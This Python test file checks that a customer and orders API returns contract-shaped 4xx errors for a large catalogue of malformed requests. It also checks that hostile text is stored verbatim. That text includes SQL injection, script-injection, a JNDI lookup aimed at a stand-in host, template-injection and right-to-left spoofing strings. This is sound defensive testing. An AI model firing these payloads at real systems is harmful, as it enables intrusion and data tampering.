"""Bad input: a catalogue of malformed requests, every one answered 4xx in the contract's shape with
nothing stored; and hostile but valid text (emoji, right-to-left, SQL, HTML) stored verbatim.

The catalogue is built from tables: every field of the customer with every JSON type it does not
accept, nulls where null means nothing, huge strings and control characters in every text field,
then whole-body faults (not JSON, not UTF-8, nested 100,000 deep, 10 MB and more, wrong content
types, duplicate keys, NaN), header and method faults, and the orders, wishlists and upload bodies.
"""

import json
from dataclasses import dataclass, field

from customers.models import Address, Customer, Order, Wishlist
from tests.conftest import api_client
from tests.factories import customer_make

CONTRACT_CODES = {
    "InvalidJsonInput",
    "InvalidField",
    "RequiredField",
    "DuplicateField",
    "InvalidToken",
    "InsufficientScope",
    "ResourceNotFound",
    "ConcurrentModification",
    "InvalidOperation",
    "MethodNotAllowed",
    "PayloadTooLarge",
    "UnsupportedMediaType",
    "TooManyRequests",
}


@dataclass(frozen=True)
class Bad:
    name: str
    method: str
    path: str
    body: bytes = b""
    content_type: str = "application/json"
    headers: dict = field(default_factory=dict)
    expect: int | None = None  # an exact status when the contract names one; else any 4xx


def as_json(value) -> bytes:
    return json.dumps(value).encode()


def customer_json(**fields) -> bytes:
    """A valid customer body with these fields changed."""
    return as_json({"email": "valid.shopper@example.com"} | fields)


# A value of each JSON type; a field is sent every type it does not accept.
JSON_VALUES = {"int": 7, "float": 1.5, "bool": True, "list": ["x"], "object": {"a": 1}, "str": "x"}

# field -> (JSON types it accepts, null accepted, an invalid string or None when any string will do)
CUSTOMER_FIELDS = {
    "id": ({"str"}, True, "   "),
    "email": ({"str"}, True, "not-an-email"),
    "phone": ({"str"}, True, "12"),
    "first_name": ({"str"}, True, "tab\tinside"),
    "last_name": ({"str"}, True, "bell\x07"),
    "note": ({"str"}, True, "x" * 5001),
    "multipass_identifier": ({"str"}, True, "x" * 256),
    "state": ({"str"}, False, "frozen"),
    "verified_email": ({"bool"}, False, None),
    "accepts_marketing": ({"bool"}, False, None),
    "tax_exempt": ({"bool"}, False, None),
    "accepts_marketing_updated_at": ({"str"}, True, "yesterday"),
    "marketing_opt_in_level": ({"str"}, True, "double_opt_in"),
    "currency": ({"str"}, True, "ZZZ"),
    "tax_exemptions": ({"list", "str"}, True, "NOT_A_CODE"),
    "tags": ({"list", "str"}, True, "a\x1bb"),
    "addresses": ({"list"}, True, None),
    "version": ({"int"}, True, None),
}
TEXT_FIELDS = ["id", "email", "phone", "first_name", "last_name", "note", "multipass_identifier", "tags"]
ADDRESS_TEXT_FIELDS = ["first_name", "last_name", "company", "address1", "address2", "city", "province", "zip"]
CONTROL_CHARACTERS = {"NUL": "a\x00b", "ESC": "\x1b[31mred", "DEL": "a\x7f", "C1": "a\x85b", "vertical tab": "a\x0bb"}


def customer_field_cases() -> list[Bad]:
    cases = []
    for name, (accepted, nullable, bad_string) in CUSTOMER_FIELDS.items():
        for json_type, value in JSON_VALUES.items():
            if json_type not in accepted:
                cases.append(
                    Bad(f"{name} as {json_type}", "post", "/api/customers", customer_json(**{name: value}), expect=400)
                )
        if not nullable:
            cases.append(Bad(f"{name} null", "post", "/api/customers", customer_json(**{name: None}), expect=400))
        if bad_string is not None:
            cases.append(
                Bad(f"{name} invalid string", "post", "/api/customers", customer_json(**{name: bad_string}), expect=400)
            )
    for name in TEXT_FIELDS:
        cases.append(
            Bad(f"{name} of 100,000 characters", "post", "/api/customers", customer_json(**{name: "x" * 100_000}))
        )
        for label, text in CONTROL_CHARACTERS.items():
            if name == "note" and label == "vertical tab":
                continue
            cases.append(
                Bad(f"{name} with {label}", "post", "/api/customers", customer_json(**{name: text}), expect=400)
            )
    for name in ADDRESS_TEXT_FIELDS:
        cases.append(
            Bad(f"address {name} as int", "post", "/api/customers", customer_json(addresses=[{name: 5}]), expect=400)
        )
        huge = customer_json(addresses=[{name: "x" * 10_000}])
        cases.append(Bad(f"address {name} huge", "post", "/api/customers", huge, expect=400))
    return cases


NUMBERS_AS_STRINGS = {
    "version": "1",
    "accepts_marketing": "true",
    "verified_email": "false",
    "tax_exempt": "0",
}
ODD_VALUES = [
    ("email null and phone null", {"email": None, "phone": None}),
    ("email empty and phone empty", {"email": "", "phone": ""}),
    ("no email, no phone", {"email": None, "first_name": "Ann"}),
    ("emoji email", {"email": "😀@example.com"}),
    ("email with two @", {"email": "a@b@example.com"}),
    ("email of 255 characters", {"email": "a" * 243 + "@example.com"}),
    ("phone with letters", {"email": None, "phone": "call me maybe"}),
    ("version zero", {"version": 0}),
    ("version negative", {"version": -3}),
    ("version float", {"version": 1.0}),
    ("unknown field", {"emial": "typo@example.com"}),
    ("unknown field with SQL name", {"email; DROP TABLE x": 1}),
    ("251 tags", {"tags": ",".join(f"t{n}" for n in range(251))}),
    ("tag of 256 characters", {"tags": "x" * 256}),
    ("tags list with comma", {"tags": ["a,b"]}),
    ("tax exemptions list of ints", {"tax_exemptions": [1, 2]}),
    ("unknown tax exemption", {"tax_exemptions": ["CA_MOON_EXEMPTION"]}),
    ("addresses string", {"addresses": "1 Main St"}),
    ("address not object", {"addresses": [1]}),
    ("address unknown field", {"addresses": [{"street": "Main"}]}),
    ("address bad country code", {"addresses": [{"country_code": "ZZ"}]}),
    ("address two defaults", {"addresses": [{"default": True}, {"default": True}]}),
    ("address default as string", {"addresses": [{"default": "yes"}]}),
    ("address id as string", {"addresses": [{"id": "1"}]}),
    ("101 addresses", {"addresses": [{"city": "X"}] * 101}),
    ("timestamp as number", {"accepts_marketing_updated_at": 1700000000}),
    ("timestamp out of range", {"accepts_marketing_updated_at": "2026-13-45T99:99:99"}),
    ("currency lowercase garbage", {"currency": "dollars"}),
    ("state uppercase", {"state": "ENABLED"}),
]

DEEP = 100_000


def body_cases() -> list[Bad]:
    post = "/api/customers"
    ten_mb_note = b'{"email": "big@example.com", "note": "' + b"x" * (10 * 1024 * 1024) + b'"}'
    return [
        Bad("empty body", "post", post, b"", expect=400),
        Bad("whitespace body", "post", post, b"   \n ", expect=400),
        Bad("null body", "post", post, b"null", expect=400),
        Bad("true body", "post", post, b"true", expect=400),
        Bad("number body", "post", post, b"42", expect=400),
        Bad("string body", "post", post, b'"customer"', expect=400),
        Bad("array body", "post", post, b'[{"email": "a@example.com"}]', expect=400),
        Bad("truncated object", "post", post, b'{"email": "a@example.com"', expect=400),
        Bad("missing value", "post", post, b'{"email": }', expect=400),
        Bad("trailing garbage", "post", post, b'{"email": "a@example.com"} trailing', expect=400),
        Bad("two documents", "post", post, b'{"email": "a@example.com"}{"email": "b@example.com"}', expect=400),
        Bad("single quotes", "post", post, b"{'email': 'a@example.com'}", expect=400),
        Bad("trailing comma", "post", post, b'{"email": "a@example.com",}', expect=400),
        Bad("comment", "post", post, b'{"email": "a@example.com" /* hi */}', expect=400),
        Bad("NaN", "post", post, b'{"email": "a@example.com", "version": NaN}', expect=400),
        Bad("Infinity", "post", post, b'{"email": "a@example.com", "version": Infinity}', expect=400),
        Bad("-Infinity", "post", post, b'{"email": "a@example.com", "version": -Infinity}', expect=400),
        Bad(
            "number of 5,000 digits",
            "post",
            post,
            b'{"email": "a@example.com", "version": ' + b"9" * 5000 + b"}",
            expect=400,
        ),
        Bad("duplicate keys", "post", post, b'{"email": "a@example.com", "email": "b@example.com"}', expect=400),
        Bad(
            "duplicate keys nested",
            "post",
            post,
            b'{"email": "a@x.com", "addresses": [{"zip": "1", "zip": "2"}]}',
            expect=400,
        ),
        Bad("arrays nested 100,000 deep", "post", post, b"[" * DEEP + b"]" * DEEP, expect=400),
        Bad("objects nested 100,000 deep", "post", post, b'{"a":' * DEEP + b"1" + b"}" * DEEP, expect=400),
        Bad("unclosed nesting 100,000 deep", "post", post, b"[" * DEEP, expect=400),
        Bad("invalid UTF-8", "post", post, b'{"email": "\xff\xfe@example.com"}', expect=400),
        Bad("overlong UTF-8", "post", post, b'{"first_name": "\xc0\xaf", "email": "a@example.com"}', expect=400),
        Bad("UTF-16 body", "post", post, '{"email": "a@example.com"}'.encode("utf-16"), expect=400),
        Bad("lone surrogate escape", "post", post, b'{"email": "a@example.com", "first_name": "\\ud800"}', expect=400),
        Bad("NUL escape", "post", post, b'{"email": "a@example.com", "first_name": "\\u0000"}', expect=400),
        Bad(
            "raw control character in string", "post", post, b'{"email": "a@example.com", "note": "a\x01b"}', expect=400
        ),
        Bad("10 MB body (a 10 MB note)", "post", post, ten_mb_note, expect=400),
        Bad("10 MB of garbage", "post", post, b"\x00garbage" * (1024 * 1024 + 1), expect=400),
        Bad("25 MB body", "post", post, b'{"note": "' + b"x" * (25 * 1024 * 1024) + b'"}', expect=413),
        Bad("text/plain", "post", post, customer_json(), content_type="text/plain", expect=415),
        Bad("form encoded", "post", post, b"email=a%40example.com", "application/x-www-form-urlencoded", expect=415),
        Bad("multipart", "post", post, b"--x\r\n\r\n--x--", "multipart/form-data; boundary=x", expect=415),
        Bad("xml", "post", post, b"<customer><email>a@example.com</email></customer>", "application/xml", expect=415),
        Bad("no content type", "post", post, customer_json(), content_type="", expect=415),
        Bad(
            "json-patch content type",
            "post",
            post,
            customer_json(),
            content_type="application/json-patch+json",
            expect=415,
        ),
    ]


def header_and_method_cases() -> list[Bad]:
    put = "/api/customers"
    return [
        Bad("no token", "post", "/api/customers", customer_json(), headers={"HTTP_AUTHORIZATION": ""}, expect=401),
        Bad("Basic auth", "get", "/api/customers/x", headers={"HTTP_AUTHORIZATION": "Basic YTpi"}, expect=401),
        Bad("Bearer without token", "get", "/api/customers/x", headers={"HTTP_AUTHORIZATION": "Bearer"}, expect=401),
        Bad(
            "Bearer with two tokens",
            "get",
            "/api/customers/x",
            headers={"HTTP_AUTHORIZATION": "Bearer a b"},
            expect=401,
        ),
        Bad("unknown token", "get", "/api/customers/x", headers={"HTTP_AUTHORIZATION": "Bearer nope"}, expect=401),
        Bad(
            "token of 10,000 characters",
            "get",
            "/api/customers/x",
            headers={"HTTP_AUTHORIZATION": "Bearer " + "a" * 10_000},
            expect=401,
        ),
        Bad("token in the query string", "get", "/api/customers/x?access_token=abc", expect=401),
        Bad(
            "Content-Length not a number",
            "post",
            "/api/customers",
            customer_json(),
            headers={"CONTENT_LENGTH": "ten"},
            expect=400,
        ),
        Bad("If-Match not a version", "put", put, as_json({"id": "c-1"}), headers={"HTTP_IF_MATCH": "abc"}, expect=400),
        Bad(
            "If-Match huge",
            "put",
            put,
            as_json({"id": "c-1"}),
            headers={"HTTP_IF_MATCH": '"' + "9" * 40 + '"'},
            expect=400,
        ),
        Bad("PUT without id", "put", put, as_json({"note": "who?"}), expect=400),
        Bad("PUT with id as int", "put", put, as_json({"id": 5, "note": "x"}), expect=400),
        Bad("PUT with twc_customer_id as int", "put", put, as_json({"twc_customer_id": 5}), expect=400),
        Bad("PUT with array body", "put", put, b"[]", expect=400),
        Bad("PUT unknown customer", "put", put, as_json({"id": "no-such-customer", "note": "x"}), expect=404),
        Bad("PATCH collection", "patch", "/api/customers", customer_json(), expect=405),
        Bad("DELETE collection", "delete", "/api/customers", expect=405),
        Bad("PUT upload", "put", "/api/upload-customers", b"[]", expect=405),
        Bad("GET orders", "get", "/api/orders", expect=405),
        Bad("POST to a customer", "post", "/api/customers/c-1", customer_json(), expect=405),
        Bad("NUL in the path", "get", "/api/customers/a%00b", expect=404),
        Bad("path of 5,000 characters", "get", "/api/customers/" + "x" * 5000, expect=404),
        Bad("control characters in the path", "delete", "/api/customers/%1b%5b31m", expect=404),
        Bad("unknown API path", "get", "/api/customerz", expect=404),
    ]


def order_wishlist_upload_cases() -> list[Bad]:
    def order_json(**fields):
        return as_json({"name": "#1001", "total_price": 10} | fields)

    def wishlist_json(**fields):
        return as_json({"email": "w@example.com", "items": ["sku-1"]} | fields)

    cases = [
        Bad("order without name", "post", "/api/orders", as_json({"total_price": 1}), expect=400),
        Bad("order name int", "post", "/api/orders", order_json(name=1001), expect=400),
        Bad("order name with NUL", "post", "/api/orders", order_json(name="#1\x00"), expect=400),
        Bad("order price as string", "post", "/api/orders", order_json(total_price="12.50"), expect=400),
        Bad("order price negative", "post", "/api/orders", order_json(total_price=-1), expect=400),
        Bad("order price huge", "post", "/api/orders", order_json(total_price=1e20), expect=400),
        Bad("order price bool", "post", "/api/orders", order_json(total_price=True), expect=400),
        Bad("order price infinite", "post", "/api/orders", b'{"name": "#1", "total_price": 1e999}', expect=400),
        Bad("order currency unknown", "post", "/api/orders", order_json(currency="ZZZ"), expect=400),
        Bad("order currency int", "post", "/api/orders", order_json(currency=5), expect=400),
        Bad("order test as string", "post", "/api/orders", order_json(test="yes"), expect=400),
        Bad("order archived null", "post", "/api/orders", order_json(archived=None), expect=400),
        Bad("order created_at garbage", "post", "/api/orders", order_json(created_at="tomorrow"), expect=400),
        Bad("order customer_id int", "post", "/api/orders", order_json(customer_id=5), expect=400),
        Bad("order customer_id with NUL", "post", "/api/orders", order_json(customer_id="c\x00"), expect=400),
        Bad("order unknown customer_id", "post", "/api/orders", order_json(customer_id="nobody"), expect=400),
        Bad("order phone undialable", "post", "/api/orders", order_json(phone="12"), expect=400),
        Bad("order email int", "post", "/api/orders", order_json(email=5), expect=400),
        Bad("order unknown field", "post", "/api/orders", order_json(discount=5), expect=400),
        Bad("order array body", "post", "/api/orders", b"[]", expect=400),
        Bad("wishlist items string", "post", "/api/wishlists", wishlist_json(items="sku-1"), expect=400),
        Bad("wishlist items objects", "post", "/api/wishlists", wishlist_json(items=[{}]), expect=400),
        Bad("wishlist items booleans", "post", "/api/wishlists", wishlist_json(items=[True]), expect=400),
        Bad("wishlist item with NUL", "post", "/api/wishlists", wishlist_json(items=["sku\x00"]), expect=400),
        Bad("wishlist 1,001 items", "post", "/api/wishlists", wishlist_json(items=["s"] * 1001), expect=400),
        Bad("wishlist name int", "post", "/api/wishlists", wishlist_json(name=5), expect=400),
        Bad("wishlist customer_id list", "post", "/api/wishlists", wishlist_json(customer_id=[]), expect=400),
        Bad("wishlist created_at int", "post", "/api/wishlists", wishlist_json(created_at=5), expect=400),
        Bad("wishlist string body", "post", "/api/wishlists", b'"wish"', expect=400),
        Bad("upload string", "post", "/api/upload-customers", b'"customers"', expect=400),
        Bad("upload object without customers", "post", "/api/upload-customers", as_json({"items": []}), expect=400),
        Bad("upload customers not a list", "post", "/api/upload-customers", as_json({"customers": "x"}), expect=400),
        Bad(
            "upload with an extra key", "post", "/api/upload-customers", as_json({"customers": [], "x": 1}), expect=400
        ),
        Bad("upload of 10,001", "post", "/api/upload-customers", as_json([{"email": "a@b.co"}] * 10_001), expect=413),
    ]
    for name, value in NUMBERS_AS_STRINGS.items():
        cases.append(
            Bad(f"{name} as a numeric string", "post", "/api/customers", customer_json(**{name: value}), expect=400)
        )
    for label, fields in ODD_VALUES:
        cases.append(Bad(label, "post", "/api/customers", as_json({"email": "odd@example.com"} | fields), expect=400))
    return cases


CATALOGUE = customer_field_cases() + body_cases() + header_and_method_cases() + order_wishlist_upload_cases()


def stored_rows() -> tuple[int, int, int, int]:
    return Customer.objects.count(), Address.objects.count(), Order.objects.count(), Wishlist.objects.count()


def contract_shape_problem(response) -> str | None:
    """Why the response is not an error in the contract's shape; None when it is."""
    if response["Content-Type"] != "application/json":
        return f"content type {response['Content-Type']}"
    body = response.json()
    if set(body) != {"statusCode", "message", "errors"} or body["statusCode"] != response.status_code:
        return f"body {body}"
    if not isinstance(body["message"], str) or not body["message"] or not body["errors"]:
        return f"body {body}"
    if any(entry.get("code") not in CONTRACT_CODES or not entry.get("message") for entry in body["errors"]):
        return f"codes {body['errors']}"
    return None


def test_catalogue_of_malformed_requests_is_answered_4xx_in_shape_and_stores_nothing(api_a, store_a):
    customer_make(store=store_a, id="c-1", email="existing@example.com")
    anonymous = api_client(None)
    problems = []
    answered = stored = 0
    for bad in CATALOGUE:
        before = stored_rows()
        # A client with a token of its own would send it over the header the case is about.
        client = anonymous if "HTTP_AUTHORIZATION" in bad.headers else api_a
        response = client.generic(bad.method.upper(), bad.path, bad.body, content_type=bad.content_type, **bad.headers)
        if stored_rows() != before:
            stored += 1
            problems.append((bad.name, "stored something"))
        if not 400 <= response.status_code < 500 or (bad.expect and response.status_code != bad.expect):
            problems.append((bad.name, response.status_code, response.content[:300]))
            continue
        shape = contract_shape_problem(response)
        if shape:
            problems.append((bad.name, shape))
            continue
        answered += 1
    print(f"\nbad input: {len(CATALOGUE)} malformed requests, {answered} answered 4xx in shape, {stored} stored")
    assert len(CATALOGUE) >= 100
    assert problems == [], "\n".join(map(repr, problems))
    assert (answered, stored) == (len(CATALOGUE), 0)


HOSTILE_TEXTS = [
    "😀 Zoë 👨‍👩‍👧‍👦 🇨🇦",
    "\u202egnp.exe שלום עולם مرحبا",
    "Robert'); DROP TABLE customers_customer;--",
    "' OR '1'='1' --",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">&amp;&lt;',
    "${jndi:ldap://evil.test/x} {{7*7}} %s%n",
    "Z̷̢͓a̶l̸g̵o̴ ﷽ \\x00 \\u0000",
]
HOSTILE_CUSTOMER_FIELDS = ["first_name", "last_name", "note", "multipass_identifier", "tags"]
HOSTILE_ADDRESS_FIELDS = ["first_name", "last_name", "company", "address1", "address2", "city", "province", "name"]


def test_hostile_but_valid_text_is_stored_verbatim_and_returned_as_json(api_a):
    for number, text in enumerate(HOSTILE_TEXTS):
        body = {"id": text, "email": f"hostile-{number}@example.com"} | dict.fromkeys(HOSTILE_CUSTOMER_FIELDS, text)
        body["addresses"] = [dict.fromkeys(HOSTILE_ADDRESS_FIELDS, text)]
        created = api_a.post("/api/customers", body)
        assert created.status_code == 201, (text, created.content)
        assert created["Content-Type"] == "application/json"
        assert created["X-Content-Type-Options"] == "nosniff"
        read = api_a.get(f"/api/customers/{created.json()['twc_customer_id']}")
        assert read.status_code == 200
        representation = read.json()
        assert representation["id"] == text
        assert {name: representation[name] for name in HOSTILE_CUSTOMER_FIELDS} == dict.fromkeys(
            HOSTILE_CUSTOMER_FIELDS, text
        )
        address = representation["addresses"][0]
        assert {name: address[name] for name in HOSTILE_ADDRESS_FIELDS} == dict.fromkeys(HOSTILE_ADDRESS_FIELDS, text)
        stored = Customer.objects.get(twc_customer_id=representation["twc_customer_id"])
        assert (stored.ref, stored.first_name, stored.note, stored.tags) == (text, text, text, text)
        order = api_a.post("/api/orders", {"name": text, "customer_id": text, "total_price": 1})
        assert order.status_code == 201 and order.json()["name"] == text
    print(
        f"\nhostile text: {len(HOSTILE_TEXTS)} hostile strings in {len(HOSTILE_CUSTOMER_FIELDS) + 1} customer fields"
        f" and {len(HOSTILE_ADDRESS_FIELDS)} address fields, stored verbatim"
    )
    assert Customer.objects.filter(store__name="Store A").count() == len(HOSTILE_TEXTS)
